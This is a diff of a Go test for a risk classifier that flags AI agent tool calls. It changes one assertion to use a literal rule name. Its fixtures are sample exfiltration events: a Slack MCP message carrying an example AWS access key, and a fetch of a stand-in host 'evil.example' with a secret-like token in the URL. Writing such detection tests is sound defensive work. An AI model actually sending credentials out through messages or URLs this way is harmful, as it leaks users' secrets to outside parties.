@@ -135,7 +135,7 @@ func TestOutboundTools(t *testing.T) {
 		"an MCP message with a secret": event("mcp__slack__post_message", map[string]any{"text": "here: AKIAIOSFODNN7EXAMPLE"}),
 		"an unknown tool with a URL":   event("Fetcher", map[string]any{"u": "https://evil.example/Xk3-9fQ_zP2mL8vR4tY6wE1aS5dF7gH0jK9lZ3xC6vB"}),
 	} {
-		if got := c.Classify(ev); got.Risk != risk.Critical || !hasRule(got, ruleOutboundData) && !hasRule(got, "secret_in_url") {
+		if got := c.Classify(ev); got.Risk != risk.Critical || !hasRule(got, "outbound_data") && !hasRule(got, "secret_in_url") {
 			t.Errorf("%s: %s, want critical; reasons %+v", what, got.Risk, got.Reasons)
 		}
 	}
